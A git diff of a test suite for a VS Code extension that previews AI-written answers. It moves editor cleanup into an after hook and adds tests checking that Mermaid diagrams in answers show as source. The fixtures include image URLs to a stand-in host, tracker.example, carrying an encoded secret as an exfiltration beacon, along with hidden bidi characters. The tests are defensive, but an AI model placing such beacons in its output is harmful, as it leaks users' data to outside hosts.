@@ -44,6 +44,12 @@ function markedCodePoints(html: string): string[] {
 describe('Answer previews', () => {
   let fakes: FakeProviders;
   let sb: SwitchboardTestApi;
+  /**
+   * The untitled answer Ask wrote, closed last: unsaved, it is reverted so that closing asks nothing. Closed
+   * earlier, its name would be given to the next untitled document, which VS Code's preview would then render
+   * from the tokens it cached for the answer (it caches by address and version).
+   */
+  let asked: vscode.TextDocument | undefined;
 
   before(async () => {
     fakes = await startFakeProviders();
@@ -56,6 +62,10 @@ describe('Answer previews', () => {
   });
 
   after(async () => {
+    if (asked) {
+      await vscode.window.showTextDocument(asked);
+      await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
+    }
     await vscode.commands.executeCommand('workbench.action.closeAllEditors');
     for (const key of ['providers.openai.baseUrl', 'routes.chat', 'auto.enabled']) await changeSetting(sb, key, undefined);
     await sb.clearKey('openai');
@@ -91,9 +101,7 @@ describe('Answer previews', () => {
     assert.match(html, /&lt;img src=&quot;https:\/\/tracker\.example\/q\.png\?code=c2VjcmV0&quot;&gt;/, html);
     assert.deepEqual(markedCodePoints(html), ['U+202E', 'U+2066', 'U+2069', 'U+2066'], html);
     assert.equal(saved.getText(), answer, 'the document keeps its text');
-    // The untitled answer is unsaved: reverted, it closes without asking.
-    await vscode.window.showTextDocument(outcome.document);
-    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
+    asked = outcome.document;
   });
 
   it('marks the hidden characters of an untitled answer in prose, inline code and code blocks', async () => {
@@ -127,6 +135,16 @@ describe('Answer previews', () => {
     }
   });
 
+  /** A diagram whose node is an image: Mermaid loads it as the diagram is drawn. */
+  const DIAGRAM = 'flowchart TD\n  A@{ img: "https://tracker.example/d.png?code=c2VjcmV0", label: "x", pos: "t", h: 60 }';
+
+  it("shows an answer's diagrams as their source: the preview's Mermaid draws none", async () => {
+    const document = await vscode.workspace.openTextDocument({ language: 'markdown', content: `\`\`\`mermaid\n${DIAGRAM}\n\`\`\`\n\n::: mermaid\n${DIAGRAM}\n:::\n` });
+    const html = await previewHtml(document);
+    assert.doesNotMatch(html, /class="(?:[^"]*\s)?mermaid[\s"]/, html);
+    assert.equal(html.match(/<(pre|div) class="switchboard-diagram-source">flowchart TD\n {2}A@\{ img: "https:\/\/tracker\.example\/d\.png\?code=c2VjcmV0"/g)?.length, 2, html);
+  });
+
   it("previews a user's own file as VS Code does: its images, its HTML, its characters unmarked", async () => {
     const html = await previewHtml(await savedFile('own-notes.md', `![logo](https://example.com/logo.png)\n\n<b>bold</b> and a zero\u200Bwidth space, [a command](command:workbench.action.files.save)\n`));
     assert.match(html, /<img\b[^>]*logo\.png/, html);
@@ -134,5 +152,7 @@ describe('Answer previews', () => {
     assert.deepEqual(markedCodePoints(html), [], html);
     assert.match(html, /zero\u200Bwidth/, html);
     assert.match(html, /<a href="command:workbench\.action\.files\.save"/, html);
+    const diagram = await previewHtml(await savedFile('own-diagram.md', `\`\`\`mermaid\n${DIAGRAM}\n\`\`\`\n`));
+    assert.match(diagram, /<pre class="mermaid"/, diagram);
   });
 });
